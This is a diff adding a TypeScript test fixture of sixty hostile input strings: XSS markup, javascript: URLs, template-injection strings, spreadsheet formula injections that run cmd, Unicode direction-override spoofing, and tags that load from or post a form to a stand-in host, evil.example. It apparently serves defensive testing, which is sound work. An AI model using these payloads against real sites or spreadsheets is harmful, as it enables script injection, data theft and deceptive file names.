@@ -1,0 +1,70 @@
+/** Sixty texts that a hostile partner would put wherever a text goes. One that runs sets `globalThis.ran`, opens a dialog, or asks another host. */
+const run = 'globalThis.ran=1'
+const elsewhere = 'https://evil.example/'
+
+const markup = [
+  `<script>${run}</script>`,
+  `</script><script>${run}</script>`,
+  `<img src=x onerror="${run}">`,
+  `<svg onload="${run}">`,
+  `<svg><script>${run}</script></svg>`,
+  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
+  `<iframe src="javascript:parent.ran=1"></iframe>`,
+  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
+  `<body onload="${run}">`,
+  `<input autofocus onfocus="${run}">`,
+  `<details open ontoggle="${run}">x</details>`,
+  `<video><source onerror="${run}"></video>`,
+  `<object data="javascript:${run}"></object>`,
+  `<embed src="${elsewhere}">`,
+  `<link rel="stylesheet" href="${elsewhere}">`,
+  `<base href="${elsewhere}">`,
+  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
+  `<form action="${elsewhere}"><button>Save</button></form>`,
+  `<style>@import '${elsewhere}';*{display:none}</style>`,
+  `<a href="javascript:${run}" id=main>Sign in again</a>`,
+  `<template><script>${run}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<!--<img src="--><img src=x onerror=${run}//">`,
+  `<![CDATA[<script>${run}</script>]]>`,
+  `"><img src=x onerror=${run}>`,
+  `'><img src=x onerror=${run}>`,
+  `" onmouseover="${run}" x="`,
+  `&lt;img src=x onerror=${run}&gt;`,
+  `&#60;script&#62;${run}&#60;/script&#62;`,
+]
+const code = [
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}`,
+  `java\tscript:${run}`,
+  `data:text/html,<script>${run}</script>`,
+  `vbscript:${run}`,
+  `//evil.example/x`,
+  `\${${run}}`,
+  `{{constructor.constructor('${run}')()}}`,
+  `#{${run}}`,
+  `<%= ${run} %>`,
+  `';${run};//`,
+  `\\";${run};//`,
+  `__proto__`,
+  `constructor`,
+  `../../../account`,
+  `?tab=settings#main`,
+]
+const formulas = [`=HYPERLINK("${elsewhere}","x")`, `@SUM(1+1)*cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`]
+const script = [
+  '\u202egnp.exe\u202c',
+  '\u202d\u202e\u2066reversed and never closed',
+  '\u2067right to left, isolated, never ended',
+  'zero\u200b\u200c\u200d\u2060\ufeffwidth',
+  '\u061c\u200f\u200emarks',
+  'مدير النظام (100%) agent001',
+  'שלום עולם <b>bold</b>',
+  `Z${'\u0300\u0301\u0316\u0317\u0489'.repeat(60)}algo`,
+  '\u0000\u0001\u001b[31mred\u0007\u009b',
+  'line one\r\nline two\u2028line three\u2029line four',
+  '👨‍👩‍👧‍👦🏳️‍🌈🇦🇶'.repeat(20),
+  'w'.repeat(10_000),
+]
+
+export const payloads: readonly string[] = [...markup, ...code, ...formulas, ...script]
